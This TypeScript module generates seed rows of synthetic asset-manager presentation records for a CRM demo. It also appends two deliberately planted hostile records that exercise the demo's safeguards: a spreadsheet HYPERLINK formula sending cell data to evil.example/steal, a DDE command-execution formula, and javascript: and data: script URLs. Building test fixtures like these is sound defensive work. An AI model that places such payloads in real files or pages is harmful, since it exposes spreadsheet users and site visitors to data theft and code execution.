/**
 * Rows of `manager_presentation__c`: documents asset managers publish about their strategies,
 * each about the quarter that ended before it was created.
 */
import type { SeedRow } from '../db/schema.ts';
import type { Account, CrmWorld } from './crm.ts';
import { addDays, instantBetween, previousQuarterOf, startOfUtcDay } from './dates.ts';
import { Random } from './random.ts';
import { salesforceId } from './salesforce-ids.ts';

const PRESENTATION_COUNT = 800;
const HISTORY_DAYS = 2 * 365;
/** How long ago the planted records were created. */
const PLANTED_AGE_DAYS = 90;
const DOCUMENT_HOST = 'https://documents.example-marketplace.com/presentations';

/** Presentation types, how common each is, and the document types each comes as. */
const TYPES: readonly (readonly [string, number, readonly string[]])[] = [
  ['Quarterly Update', 45, ['Investor Letter', 'Performance Report', 'Market Commentary']],
  ['Pitch Book', 20, ['Strategy Deck', 'Product Overview']],
  ['Due Diligence', 20, ['Due Diligence Questionnaire', 'ESG Report', 'Operational Review']],
  ['Annual Meeting', 15, ['Annual Report', 'Strategy Deck', 'ESG Report']],
];

/** "Investor Letter" → "Investor-Letter", for file names. */
function dashed(text: string): string {
  return text.replaceAll(' ', '-');
}

interface Document {
  readonly name: string;
  readonly type: string;
  readonly documentType: string;
  /** "Q3-2025", or "2025" for annual documents. */
  readonly period: string;
  readonly extension: string;
}

function drawDocument(
  random: Random,
  world: CrmWorld,
  managers: readonly Account[],
  quarter: number,
  year: number,
): Document {
  // Most documents are about a strategy; the rest about the firm as a whole.
  const subject = random.chance(0.7)
    ? random.pick(world.strategies).name
    : random.pick(managers).name;
  const [type, , documentTypes] = random.weighted(TYPES.map((entry) => [entry, entry[1]] as const));
  const documentType = random.pick(documentTypes);
  const period = type === 'Annual Meeting' ? `${year}` : `Q${quarter}-${year}`;
  const extension = documentType === 'Strategy Deck' && random.chance(0.3) ? 'pptx' : 'pdf';
  const name = `${subject} – ${period.replace('-', ' ')} ${documentType}`;
  return { name, type, documentType, period, extension };
}

/**
 * Two records as an attacker upstream could plant them: a formula in the name (CSV injection) and
 * script or data URLs as documents. The demo carries them so the safeguards can be seen at work:
 * the table shows them as plain text and the CSV neutralises the formula.
 */
export const PLANTED_PRESENTATIONS = [
  {
    name: '=HYPERLINK("https://evil.example/steal?d="&A1,"Q4 2025 Investor Letter")',
    type__c: 'Quarterly Update',
    manager_presentation_type__c: 'Investor Letter',
    document_name: 'Q4-2025-Investor-Letter.pdf',
    url: 'javascript:alert(document.domain)',
  },
  {
    name: "@SUM(1+1)*cmd|' /C calc'!A0",
    type__c: 'Pitch Book',
    manager_presentation_type__c: 'Strategy Deck',
    document_name: 'Strategy-Deck.pdf',
    url: 'data:text/html,<script>alert(1)</script>',
  },
] as const;

/** Yields the presentations, ids in creation order, then the planted records. */
export function* managerPresentationRows(
  world: CrmWorld,
  seed: number,
  today: Date,
): Generator<SeedRow> {
  const random = Random.derive(seed, 'manager_presentation__c');
  const from = addDays(startOfUtcDay(today), -HISTORY_DAYS);
  const managers = world.accounts.filter((account) => account.kind === 'Asset Manager');
  const created = Array.from({ length: PRESENTATION_COUNT }, () =>
    instantBetween(random, from, today),
  ).sort((a, b) => a.getTime() - b.getTime());
  const taken = new Set<string>();
  for (const [index, createdAt] of created.entries()) {
    const id = salesforceId('a0P', index);
    // Documents cover the last completed quarter before they were written.
    const { quarter, year } = previousQuarterOf(createdAt);
    let document: Document;
    // A manager publishes one document of a kind per period; redraw the rare repeat.
    do {
      document = drawDocument(random, world, managers, quarter, year);
    } while (taken.has(document.name));
    taken.add(document.name);
    const { type, documentType } = document;
    const documentName = `${document.period}-${dashed(documentType)}.${document.extension}`;
    yield {
      name: document.name,
      createddate: createdAt,
      type__c: type,
      manager_presentation_type__c: documentType,
      document_name: documentName,
      url: `${DOCUMENT_HOST}/${id}/${documentName}`,
    };
  }
  // Dated a quarter back, not yesterday: the starter (newest first) opens on real documents, and
  // the planted ones stay in its 500 rows, findable by their names or URLs.
  const plantedAt = addDays(startOfUtcDay(today), -PLANTED_AGE_DAYS);
  for (const planted of PLANTED_PRESENTATIONS) yield { ...planted, createddate: plantedAt };
}
